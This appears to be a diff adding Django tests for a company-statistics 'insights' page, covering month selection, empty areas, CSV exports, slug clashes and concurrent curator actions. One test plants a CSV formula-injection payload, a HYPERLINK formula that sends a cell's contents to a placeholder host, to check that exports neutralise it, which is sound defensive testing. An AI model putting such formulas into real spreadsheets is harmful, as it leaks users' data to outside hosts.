@@ -220,3 +220,116 @@ def test_missing_companies_are_added_from_the_newest_month_only(client, two_snap
     assert "Add the 3 missing" in page and 'name="month" value="2025-11"' in page
     client.post(url, {"definition": "dcms-digital-2016", "month": "2025-11"})
     assert Organisation.objects.filter(source="companies-house").count() == 3
+
+
+def test_an_older_month_on_the_index_is_named_chosen_and_kept_in_the_links(client, two_snapshots):
+    page = client.get("/insights/?month=2024-11").content.decode()
+    # November 2024: 4 of 5 active companies in Milton Keynes are digital.
+    assert re.search(r"Milton Keynes</a></th><td>[^<]*</td>\s*<td>4</td><td>80.0%", page)
+    assert "snapshot of November 2024</caption>" in page
+    assert '<option value="2024-11" selected>' in page
+    assert '<option value="2025-11" selected>' not in page
+    assert 'href="/insights/milton-keynes/?definition=dcms-digital-2016&amp;month=2024-11"' in page
+    newest = client.get("/insights/").content.decode()
+    assert '<option value="2025-11" selected>' in newest
+    assert "snapshot of November 2025</caption>" in newest
+
+
+def test_an_area_without_companies_and_a_definition_without_codes_say_so(client, two_snapshots):
+    from frontdoor.insights.models import Area, SectorDefinition
+
+    Area.objects.create(slug="nowhere", name="Nowhere", kind="lad", codes="E06000001")
+    page = client.get("/insights/nowhere/").content.decode()
+    assert "<strong>0</strong> active companies of any sector have their registered office" in page
+    assert "<strong></strong>" not in page
+
+    SectorDefinition.objects.create(slug="empty", name="Empty definition", version="1")
+    page = client.get("/insights/milton-keynes/?definition=empty").content.decode()
+    assert "The Empty definition has no SIC codes yet, so it counts no companies." in page
+    method = client.get("/insights/method/").content.decode()
+    assert "No codes yet: this definition counts no companies." in method
+    assert "Source: ." not in method
+
+
+def test_csv_cells_from_curated_text_cannot_run_as_formulas(client, two_snapshots):
+    from frontdoor.insights.figures import figures_refresh
+    from frontdoor.insights.models import Area, SectorCode
+
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'
+    SectorCode.objects.filter(definition__slug="dcms-digital-2016", code="62012").update(
+        subsector=formula
+    )
+    Area.objects.filter(slug="coventry").update(name="@SUM(1+1)")
+    figures_refresh()
+    rows = client.get("/insights/milton-keynes/subsectors.csv").content.decode().splitlines()
+    assert any(r.startswith(("\"'=HYPERLINK", "'=HYPERLINK")) for r in rows), rows
+    assert not any(r.startswith(('"=', "=")) for r in rows)
+    rows = client.get("/insights/milton-keynes/peers.csv").content.decode().splitlines()
+    assert any(r.startswith("'@SUM(1+1)") for r in rows), rows
+
+
+def test_a_taken_slug_and_a_single_company_are_handled(client, two_snapshots):
+    # A draft whose number a curator cleared still holds the slug a company would get.
+    Organisation.objects.create(
+        name="Company 00000001", slug="company-00000001-limited-00000001", kind="sme"
+    )
+    for number in ("00000004", "00000010"):  # listed: one company is missing
+        Organisation.objects.create(
+            name=number, slug=f"listed-{number}", kind="sme", company_number=number
+        )
+    client.force_login(curator())
+    page = client.get("/insights/milton-keynes/").content.decode()
+    assert "Add the 1 missing company as draft listing</button>" in page
+    url = "/insights/milton-keynes/add-missing/"
+    response = client.post(url, {"definition": "dcms-digital-2016"}, follow=True)
+    assert "Added 1 company as a draft listing" in response.content.decode()
+    added = Organisation.objects.get(source="companies-house")
+    assert added.slug == "company-00000001-limited-00000001-2"
+    response = client.post(url, {"definition": "dcms-digital-2016"}, follow=True)
+    assert "Nothing to add: the directory already has every one." in response.content.decode()
+
+
+@pytest.mark.django_db(transaction=True)
+def test_a_second_curator_adding_at_the_same_moment_waits_and_adds_nothing(data_dir):
+    import threading
+
+    from django.db import connection, transaction
+
+    from frontdoor.insights.actions import organisations_add_missing
+    from frontdoor.insights.companies import companies_import
+    from frontdoor.insights.figures import figures_for
+    from frontdoor.insights.models import Area, SectorDefinition
+
+    from .conftest import snapshot_2025, write_csv
+
+    if connection.vendor != "postgresql":
+        pytest.skip("SQLite has one writer at a time: the runs cannot overlap")
+    companies_import(
+        write_csv(data_dir / "BasicCompanyDataAsOneFile-2025-11-01.csv", snapshot_2025())
+    )
+    fig = figures_for(
+        Area.objects.get(slug="milton-keynes"),
+        SectorDefinition.objects.get(slug="dcms-digital-2016"),
+    )
+    definition = SectorDefinition.objects.get(slug="dcms-digital-2016")
+    second = []
+
+    def run():
+        try:
+            second.append(
+                organisations_add_missing(figures=fig, definition=definition, acting_user=None)
+            )
+        except Exception as error:  # reported by the assertion below
+            second.append(error)
+        finally:
+            connection.close()
+
+    with transaction.atomic():
+        assert organisations_add_missing(figures=fig, definition=definition, acting_user=None) == 3
+        other = threading.Thread(target=run)
+        other.start()
+        other.join(0.5)
+        assert other.is_alive()  # waiting for the first run to commit
+    other.join(10)
+    assert second == [0]
+    assert Organisation.objects.filter(source="companies-house").count() == 3
